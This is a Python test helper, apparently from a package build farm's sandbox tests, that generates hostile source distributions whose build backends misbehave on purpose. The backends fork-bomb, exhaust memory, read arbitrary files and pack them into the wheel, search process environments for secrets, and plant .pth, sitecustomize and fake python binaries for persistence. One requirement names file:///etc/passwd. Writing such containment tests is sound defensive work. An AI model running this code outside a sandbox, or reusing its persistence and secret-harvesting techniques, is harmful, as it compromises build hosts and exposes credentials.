"""Hostile sdists for the build farm's hostile-build tests. NEVER build them outside a sandbox.

``make_hostile_sdist(dest, case, name=...)`` writes an sdist whose in-tree PEP 517 backend
(``hostile_backend.py``, stdlib only) misbehaves as :data:`CASES` says; where a case goes on
to build, its wheel is a valid pure wheel that pip installs. The parameters are written into
the backend as Python literals: it reads none of them from its environment.
"""

from __future__ import annotations

import io
import json
import tarfile
from typing import TYPE_CHECKING, Final

from harness.dists import Project

if TYPE_CHECKING:
    from collections.abc import Mapping, Sequence
    from pathlib import Path

CASES: Final[dict[str, str]] = {
    "sleep": "build_wheel sleeps forever",
    "fork": "build_wheel forks up to 4000 children sleeping 120 s each",
    "memory": "build_wheel touches 64 MiB blocks up to 16 GiB and keeps them",
    "network": "build_wheel connects to 127.0.0.1 on each of `ports`",
    "read": "build_wheel reads `paths` and ships what it read as <module>/stolen.txt",
    "plant": "build_wheel plants .pth/sitecustomize.py/bin/python*, appends to the toolbox's "
    "run.py, and ships a script and .pth",
    "requires-option": "pyproject build requires hold a pip option (--index-url=...)",
    "requires-url": "get_requires_for_build_wheel returns a file:// direct reference",
    "requires-path": "get_requires_for_build_wheel returns a local path",
    "requires-dash": "get_requires_for_build_wheel returns an editable option (-e/tmp/x)",
    "symlink-out": "build_wheel returns a wheel that is a symlink to paths[0]",
    "big-log": "build_wheel writes 500 MiB to stdout",
    "two-wheels": "build_wheel writes two wheels (<dist>_extra too)",
    "other-project": "build_wheel returns a wheel of project other-project 9.9",
    "other-version": "build_wheel returns a wheel of the project at version 6.6.6",
    "big-wheel": "build_wheel returns a wheel with a stored member of wheel_bytes random bytes",
    "secret-env": "build_wheel prints os.environ and `secrets` found in /proc/*/environ|cmdline",
}

#: Backend code shared by all cases: the marker, the hand-made wheel, the hooks' prologue.
_HELPERS = '''
def _mark():
    if MARKER:
        with open(MARKER, "a") as f:
            f.write("hostile\\n")

def _hash(sha):
    return "sha256=" + base64.urlsafe_b64encode(sha.digest()).rstrip(b"=").decode()

def _wheel(wheel_directory, name=NAME, version=VERSION, files=(), init="", big=0):
    """Write a valid pure wheel by hand; return its basename."""
    dist = re.sub(r"[-_.]+", "_", name).lower()
    module = MODULE if name == NAME else dist
    info = f"{dist}-{version}.dist-info"
    metadata = f"Metadata-Version: 2.1\\nName: {name}\\nVersion: {version}\\n\\n"
    tags = "Wheel-Version: 1.0\\nGenerator: hostile\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
    members = [(f"{module}/__init__.py", f"VERSION = {version!r}\\n{init}".encode()), *files]
    members += [(f"{info}/METADATA", metadata.encode()), (f"{info}/WHEEL", tags.encode())]
    path = os.path.join(wheel_directory, f"{dist}-{version}-py3-none-any.whl")
    record = []
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for arcname, data in members:
            zf.writestr(arcname, data)
            record.append(f"{arcname},{_hash(hashlib.sha256(data))},{len(data)}")
        if big:
            member = zipfile.ZipInfo(f"{module}/big.bin", (2023, 11, 14, 22, 13, 20))
            member.compress_type = zipfile.ZIP_STORED
            sha, left = hashlib.sha256(), big
            with zf.open(member, "w", force_zip64=True) as out:
                while left:
                    chunk = os.urandom(min(left, 1 << 20))
                    sha.update(chunk)
                    out.write(chunk)
                    left -= len(chunk)
            record.append(f"{member.filename},{_hash(sha)},{big}")
        record.append(f"{info}/RECORD,,")
        zf.writestr(f"{info}/RECORD", "\\n".join(record) + "\\n")
    return os.path.basename(path)

def _walk(base, depth):
    top = base.rstrip("/").count("/")
    for root, dirs, files in os.walk(base):
        if root.rstrip("/").count("/") - top >= depth or root in ("/proc", "/sys", "/dev"):
            dirs[:] = []
        yield root, dirs, files

def get_requires_for_build_wheel(config_settings=None):
    return list(REQUIRES)

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
'''

#: The body of ``build_wheel`` per case (cases missing here build normally).
_BODIES: Final[dict[str, str]] = {
    "sleep": "    while True:\n        time.sleep(60)\n",
    "fork": """
    n = 0
    try:
        while n < 4000:
            if os.fork() == 0:
                try:
                    time.sleep(120)
                finally:
                    os._exit(0)
            n += 1
    except OSError as exc:
        raise RuntimeError(f"fork failed after {n} children: {exc}") from exc
    _mark()
    return _wheel(wheel_directory)
""",
    "memory": """
    held, size = [], 64 << 20
    try:
        while len(held) * 64 < 16 << 10:
            block = bytearray(size)
            block[::4096] = b"\\1" * (size // 4096)
            held.append(block)
    except MemoryError as exc:
        raise RuntimeError(f"memory exhausted after {len(held) * 64} MiB") from exc
    _mark()
    return _wheel(wheel_directory)
""",
    "network": """
    for port in PORTS:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=3).close()
        except ConnectionRefusedError:
            result = "refused"
        except OSError:
            result = "unreachable"
        else:
            result = "CONNECTED"
            _mark()
        print(f"connect 127.0.0.1:{port}: {result}", flush=True)
    return _wheel(wheel_directory)
""",
    "read": """
    stolen = b""
    for path in PATHS:
        try:
            if os.path.isdir(path):
                data = "\\n".join(sorted(os.listdir(path))).encode()
            else:
                with open(path, "rb") as f:
                    data = f.read(1 << 26)  # 64 MiB: /dev/zero must not hang the build
        except OSError as exc:
            print(f"read {path}: {type(exc).__name__}", flush=True)
            continue
        print(f"read {path}: {len(data)} bytes: {data[:200]!r}", flush=True)
        stolen += data
    return _wheel(wheel_directory, files=[(f"{MODULE}/stolen.txt", stolen)])
""",
    "plant": """
    code = f"import os; {MARKER!r} and open({MARKER!r}, 'a').close()\\n"
    script = "#!/bin/sh\\n" + (f"touch {shlex.quote(MARKER)}\\n" if MARKER else "")
    targets = {p for p in sys.path if p and os.path.isdir(p)}
    targets |= {r for r, _, _ in _walk("/", 6) if os.path.basename(r) == "site-packages"}
    tools = os.environ.get("DEVPI_BUILDFARM_TOOLS")  # the toolbox the next builds run
    if tools:
        targets |= {os.path.dirname(tools), os.path.join(os.path.dirname(tools), "lib")}
        try:
            with open(tools, "a") as f:
                f.write("\\n" + code)
            print(f"planted {tools}", flush=True)
        except OSError:
            pass
    for folder in sorted(targets):
        for filename in ("hostile-plant.pth", "sitecustomize.py"):
            try:
                with open(os.path.join(folder, filename), "w") as f:
                    f.write(code)
                print(f"planted {os.path.join(folder, filename)}", flush=True)
            except OSError:
                pass
    bases = {"/tmp", os.environ.get("HOME", "/tmp"), os.environ.get("TMPDIR", "/tmp")}
    cwd = os.getcwd()
    while os.path.dirname(cwd) != cwd:
        bases.add(cwd)
        cwd = os.path.dirname(cwd)
    pythons = {
        os.path.join(root, f) for base in bases for root, _, files in _walk(base, 4)
        for f in files if root.endswith("/bin") and f.startswith("python")
    }
    for path in sorted(pythons):
        try:
            os.unlink(path)
            with open(path, "w") as f:
                f.write(script)
            os.chmod(path, 0o755)
            print(f"planted {path}", flush=True)
        except OSError:
            pass
    info = f"{DIST}-{VERSION}.dist-info"
    entry = f"[console_scripts]\\n{NAME}-hostile = {MODULE}:main\\n"
    files = [(f"{info}/entry_points.txt", entry.encode()), (f"{MODULE}-hostile.pth", code.encode())]
    return _wheel(wheel_directory, files=files, init="\\n\\ndef main():\\n    " + code)
""",
    "symlink-out": """
    path = os.path.join(wheel_directory, f"{DIST}-{VERSION}-py3-none-any.whl")
    os.symlink(PATHS[0], path)
    return os.path.basename(path)
""",
    "big-log": """
    chunk = (b"A" * 1023 + b"\\n") * 1024
    for _ in range(500):
        sys.stdout.buffer.write(chunk)
        sys.stdout.buffer.flush()
    return _wheel(wheel_directory)
""",
    "two-wheels": "    first = _wheel(wheel_directory)\n"
    '    _wheel(wheel_directory, name=DIST + "_extra")\n    return first\n',
    "other-project": '    return _wheel(wheel_directory, name="other-project", version="9.9")\n',
    "other-version": '    return _wheel(wheel_directory, version="6.6.6")\n',
    "big-wheel": "    return _wheel(wheel_directory, big=WHEEL_BYTES)\n",
    "secret-env": """
    for key, value in sorted(os.environ.items()):
        print(f"{key}={value}")
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as f:
                    data = f.read()
            except OSError:
                continue
            for secret in SECRETS:
                if secret.encode() in data:
                    print(f"found secret {secret} in /proc/{pid}/{part}")
    sys.stdout.flush()
    return _wheel(wheel_directory)
""",
}

_REQUIRES: Final[dict[str, list[str]]] = {
    "requires-url": ["evil @ file:///etc/passwd"],
    "requires-path": ["./local-dir"],
    "requires-dash": ["-e/tmp/x"],
}


def backend_source(case: str, constants: Mapping[str, object]) -> str:
    """The source of ``hostile_backend.py`` for ``case``, with ``constants`` as literals."""
    head = f'"""In-tree PEP 517 backend of a hostile test sdist: {case}: {CASES[case]}."""\n'
    head += "import base64, hashlib, os, re, shlex, socket, sys, time, zipfile\n\n"
    head += "".join(f"{key} = {value!r}\n" for key, value in constants.items())
    body = _BODIES.get(case, "\n    return _wheel(wheel_directory)\n")
    return head + _HELPERS + body.lstrip("\n")


def make_hostile_sdist(  # noqa: PLR0913 - one keyword per hostile aspect
    dest: Path,
    case: str,
    *,
    name: str,
    version: str = "1.0",
    marker: str = "",
    paths: Sequence[str] = (),
    ports: Sequence[int] = (),
    secrets: Sequence[str] = (),
    wheel_bytes: int = 0,
) -> Path:
    """``dest/<dist_name>-<version>.tar.gz``: an sdist whose backend misbehaves as ``case``."""
    if case not in CASES:
        msg = f"unknown hostile case {case!r}; known: {', '.join(CASES)}"
        raise ValueError(msg)
    if case in ("read", "symlink-out") and not paths:
        msg = f"case {case!r} needs paths"
        raise ValueError(msg)
    project = Project(name, version)
    constants = {
        "NAME": project.name, "DIST": project.dist_name, "MODULE": project.module,
        "VERSION": project.version, "MARKER": marker, "PATHS": list(paths),
        "PORTS": [int(port) for port in ports], "SECRETS": list(secrets),
        "WHEEL_BYTES": int(wheel_bytes), "REQUIRES": _REQUIRES.get(case, []),
    }  # fmt: skip
    requires = []
    if case == "requires-option":
        requires = ["--index-url=http://127.0.0.1:9/evil", "setuptools"]
    pyproject = (
        f"[build-system]\nrequires = {json.dumps(requires)}\n"
        'build-backend = "hostile_backend"\nbackend-path = ["."]\n'
    )
    files = {"PKG-INFO": project.core_metadata(), "pyproject.toml": pyproject}
    files["hostile_backend.py"] = backend_source(case, constants)
    dest.mkdir(parents=True, exist_ok=True)
    top = f"{project.dist_name}-{project.version}"
    path = dest / f"{top}.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for member, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{top}/{member}")
            info.size, info.mtime, info.mode = len(data), 1_700_000_000, 0o644
            tar.addfile(info, io.BytesIO(data))
    return path
